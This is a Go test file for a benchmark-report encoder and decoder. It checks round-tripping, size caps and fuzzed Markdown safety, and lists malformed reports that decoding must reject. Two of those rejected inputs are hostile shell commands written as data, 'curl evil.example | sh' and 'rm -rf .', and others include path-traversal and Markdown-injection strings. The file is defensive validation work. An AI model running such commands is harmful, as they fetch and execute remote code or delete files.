package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math"
	"reflect"
	"strings"
	"testing"
)

func TestEncodeDecode(t *testing.T) {
	for name, r := range cases() {
		data, err := r.Encode()
		if err != nil {
			t.Fatal(err)
		}
		got, err := Decode(bytes.NewReader(data))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		again, err := got.Encode()
		if err != nil || !bytes.Equal(data, again) {
			t.Errorf("%s: %v\n%s\nbecomes\n%s", name, err, data, again)
		}
		if r.Markdown() != got.Markdown() || !reflect.DeepEqual(r.Annotations(), got.Annotations()) {
			t.Errorf("%s: the comment differs", name)
		}
	}
}

func TestEncodeIsCapped(t *testing.T) {
	for _, n := range []int{10, 600} {
		r := large(n)
		data, err := r.Encode()
		if err != nil {
			t.Fatal(err)
		}
		if len(data) > MaxBytes {
			t.Errorf("%d bytes", len(data))
		}
		got, err := Decode(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		if (got.Omitted > 0) != (n == 600) || len(got.Scores) == 0 {
			t.Errorf("%d: %d omitted, %d scores left", n, got.Omitted, len(got.Scores))
		}
		if len(r.Scores) != 2*n {
			t.Error("the report itself was cut")
		}
	}
}

// TestDecodeRefuses has one report for each thing that no sound report says.
func TestDecodeRefuses(t *testing.T) {
	long := strings.Repeat("x", maxBytes+1)
	for name, edit := range map[string]func(r *Report){
		"schema":              func(r *Report) { r.Schema = 2 },
		"negative number":     func(r *Report) { r.Number = -1 },
		"huge number":         func(r *Report) { r.Number = math.MaxInt32 + 1 },
		"short head":          func(r *Report) { r.Head = "1a1a" },
		"head in capitals":    func(r *Report) { r.Head = strings.ToUpper(r.Head) },
		"base is a branch":    func(r *Report) { r.Base = "main" },
		"kind":                func(r *Report) { r.Kind = "release" },
		"model is a path":     func(r *Report) { r.Model = "../x" },
		"model is Markdown":   func(r *Report) { r.Model = "a`b" },
		"scores of nobody":    func(r *Report) { r.Model = "" },
		"role":                func(r *Report) { r.Role = "winner" },
		"negative count":      func(r *Report) { r.Unchanged = -1 },
		"negative time":       func(r *Report) { r.Elapsed = -1 },
		"commands":            func(r *Report) { r.Reproduce[0] = "curl evil.example | sh" },
		"one command more":    func(r *Report) { r.Reproduce = append(r.Reproduce, "rm -rf .") },
		"long name":           func(r *Report) { r.Name = long },
		"long example":        func(r *Report) { r.Example.Text = long },
		"zero in a text":      func(r *Report) { r.Name = "a\x00b" },
		"dropped is no id":    func(r *Report) { r.Dropped = []string{"a|b"} },
		"unanswered is no id": func(r *Report) { r.Unanswered = []string{"@a"} },
		"too many":            func(r *Report) { r.Unanswered = make([]string, maxList+1) },
		"problem nowhere":     func(r *Report) { r.Problems.Add("", 1, "", "x") },
		"problem of nothing":  func(r *Report) { r.Problems.Add("f", 1, "", "") },
		"problem above":       func(r *Report) { r.Problems.Add("f", -1, "", "x") },
		"long problem":        func(r *Report) { r.Problems.Add("f", 1, long, "x") },
		"benchmark":           func(r *Report) { r.Scores[0].Benchmark = "a | b" },
		"board":               func(r *Report) { r.Scores[0].Board = "" },
		"version":             func(r *Report) { r.Scores[0].Version = 0 },
		"line":                func(r *Report) { r.Scores[0].Line = -1 },
		"status":              func(r *Report) { r.Scores[0].Status = "won" },
		"time":                func(r *Report) { r.Scores[0].Elapsed = 1e10 },
		"long reason":         func(r *Report) { r.Scores[0].Reason = long },
		"long warning":        func(r *Report) { r.Scores[0].Warnings = []string{long} },
		"best is no id":       func(r *Report) { r.Scores[0].Best.Model = "<b>" },
		"rank below one":      func(r *Report) { r.Scores[0].Rank.Rank = -1 },
		"rank above all":      func(r *Report) { r.Scores[0].Rank.Rank = 32 },
		"interval reversed":   func(r *Report) { r.Scores[0].Rank.Best, r.Scores[0].Rank.Worst = 5, 4 },
		"half an interval":    func(r *Report) { r.Scores[0].Rank.Best = 0 },
		"before":              func(r *Report) { r.Scores[0].Before = &Before{Status: "won"} },
		"node":                func(r *Report) { r.Standings[0].Node = "a b" },
		"coverage":            func(r *Report) { r.Standings[0].Have = 6 },
		"long title":          func(r *Report) { r.Standings[0].Title = long },
	} {
		r := submission(nil)
		edit(r)
		data, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		if got, err := Decode(bytes.NewReader(data)); err == nil {
			t.Errorf("%s: %+v", name, got)
		}
	}

	data, err := submission(nil).Encode()
	if err != nil {
		t.Fatal(err)
	}
	for name, edit := range map[string][2]string{
		"unknown field":  {`"head"`, `"hades": 1, "head"`},
		"infinite":       {`"value": 0.41`, `"value": 1e999`},
		"text as number": {`"value": 0.41`, `"value": "0.41"`},
		"NaN":            {`"value": 0.41`, `"value": NaN`},
		"two reports":    {"\n}\n", "\n}\n{}"},
		"cut off":        {"\n}\n", ""},
		"padding":        {"\n}\n", "\n}" + strings.Repeat(" ", MaxBytes)},
	} {
		bad := strings.Replace(string(data), edit[0], edit[1], 1)
		if bad == string(data) {
			t.Fatalf("%s changes nothing", name)
		}
		if got, err := Decode(strings.NewReader(bad)); err == nil {
			t.Errorf("%s: %+v", name, got)
		}
	}
	deep := `{"problems":` + strings.Repeat("[", 500_000) + strings.Repeat("]", 500_000) + "}"
	if _, err := Decode(strings.NewReader(deep)); err == nil {
		t.Error("deep JSON is decoded")
	}
}

// FuzzDecode: what is decoded can be published, whatever it says.
func FuzzDecode(f *testing.F) {
	for _, r := range cases() {
		data, err := r.Encode()
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := Decode(bytes.NewReader(data))
		if err != nil {
			return
		}
		harmlessMarkdown(t, r.Markdown())
		if n := len(r.Markdown()); n > MaxComment {
			t.Errorf("%d bytes", n)
		}
		c := r.Check("")
		if c.Title == "" || c.Summary == "" || len(c.Annotations) > maxAnnotations {
			t.Errorf("%+v", c)
		}
		for _, a := range c.Annotations {
			if a.Path == "" || a.Message == "" || a.Line < 1 || len(a.Title) > 255*4 {
				t.Errorf("%+v", a)
			}
		}
		fmt.Fprint(new(strings.Builder), r.Labels())
	})
}
